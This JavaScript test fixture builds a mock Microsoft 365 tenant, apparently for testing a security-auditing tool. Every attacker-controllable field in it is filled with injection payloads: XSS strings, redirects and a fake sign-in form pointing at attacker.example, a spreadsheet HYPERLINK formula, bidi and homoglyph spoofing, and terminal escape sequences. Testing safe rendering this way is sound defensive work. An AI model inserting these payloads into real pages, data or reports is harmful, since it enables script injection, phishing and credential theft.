// A tenant in which every text that an attacker can choose is an attack.

const mark = 'window.__pwned=1';
export const attacks = [
  `<img src=x onerror=${mark}>`,
  `</style><script>${mark}</script>`,
  `</title><script>${mark}</script>`,
  `"><svg onload=${mark}>`,
  `' autofocus onfocus=${mark} x='`,
  `--><script>${mark}</script><!--`,
  `]]></text><script>${mark}</script>`,
  '<iframe srcdoc="<script>parent.__pwned=1</script>">',
  '<meta http-equiv=refresh content="0;url=https://attacker.example/">',
  '<base href=https://attacker.example/><link rel=stylesheet href=//attacker.example/x.css>',
  '<form action=https://attacker.example/><button autofocus>Sign in</button></form>',
  '&lt;script&gt;&#x3c;img src=x&#x3e;',
  'javascript:window.__pwned=1',
  'evil\u202Emoc.tfosorcim\u202C \u2066\u2067isolated',
  'zero\u200B\u200D\uFEFFwidth and Z\u0324\u0361a\u035C\u0310\u0315l\u0358\u0321go',
  '\u001B[31mred\u001B]0;title\u0007 \u0085 \u2028 \u2029',
  '=HYPERLINK("https://attacker.example/","click")',
  'A'.repeat(4000),
  'wide \uFF2D\u0456\u0441rosoft \u{1F600} \uFDFD'.repeat(20),
];

const graph = '5e000000-0000-4000-8000-0000000000ff';
const guid = (kind, number) => `${kind}-0000-4000-8000-${String(number).padStart(12, '0')}`;

// One application per attack, each with reach over mail, so that a finding says all of it.
export function evidence() {
  const world = {
    schema: 'clawback.evidence/1',
    tenant: {id: 'aaaabbbb-0000-cccc-1111-dddd2222eeee', name: attacks[0]},
    observed: '2026-11-23T09:00:00Z',
    servicePrincipals: [{
      id: graph, appId: '00000003-0000-0000-c000-000000000000', displayName: 'Microsoft Graph',
      appOwnerOrganizationId: 'f8cdef31-a31e-4b4a-93e4-5f571e91255a', servicePrincipalType: 'Application',
      accountEnabled: true, appRoles: [{id: '810c84a8-4a9e-49e6-bf7d-12d183f40d01', value: 'Mail.Read'}]}],
    oauth2PermissionGrants: [], appRoleAssignments: [], users: [], directoryAudits: [], signIns: []};
  attacks.forEach((text, number) => {
    const app = guid('5e000000', number), user = guid('05e00000', number);
    // A few are applications that a rule acts on, so that the plan says their names too.
    const campaign = ['fc5d3843-d0e8-4c3f-b0ee-6d407f667751', 'e9a7fea1-1cc0-4cd9-a31b-9137ca5deedd',
      'ff8d92dc-3d82-41d6-bcbd-b9174d163620'];
    const appId = campaign[number] ?? guid('a9900000', number);
    world.servicePrincipals.push({
      id: app, appId, displayName: text, appOwnerOrganizationId: guid('07e4a400', number),
      servicePrincipalType: 'Application', accountEnabled: true, createdDateTime: '2026-11-18T07:12:00Z',
      replyUrls: [text, 'javascript:window.__pwned=1', `https://xn--80ak6aa92e.example/${encodeURI(text.slice(0, 200))}`],
      verifiedPublisher: {displayName: text, verifiedPublisherId: null, addedDateTime: null}});
    world.users.push({id: user, displayName: text, userPrincipalName: `${text}@contoso.example`,
      accountEnabled: true, userType: 'Member'});
    world.oauth2PermissionGrants.push({id: `grant-${text}`, clientId: app, consentType: 'Principal', principalId: user,
      resourceId: graph, scope: `Mail.Read Mail.ReadWrite MailboxSettings.ReadWrite offline_access ${text}`});
    world.directoryAudits.push({id: `audit-${text}`, category: 'ApplicationManagement',
      activityDateTime: '2026-11-18T07:12:00Z', activityDisplayName: 'Consent to application', result: 'success',
      resultReason: text, initiatedBy: {user: {id: user, userPrincipalName: text, ipAddress: text}},
      targetResources: [{id: app, type: 'ServicePrincipal', displayName: text, modifiedProperties: []}],
      additionalDetails: [{key: 'AppId', value: appId}, {key: 'User-Agent', value: text}]});
    world.signIns.push({id: `sign-in-${text}`, createdDateTime: '2026-11-18T08:00:00Z', userId: user, appId,
      appDisplayName: text, userDisplayName: text, userPrincipalName: text, ipAddress: text,
      clientAppUsed: text, userAgent: text, status: {errorCode: 0}, location: {city: text, countryOrRegion: text},
      deviceDetail: {browser: text, operatingSystem: text}, resourceDisplayName: 'Microsoft Graph'});
  });
  return world;
}
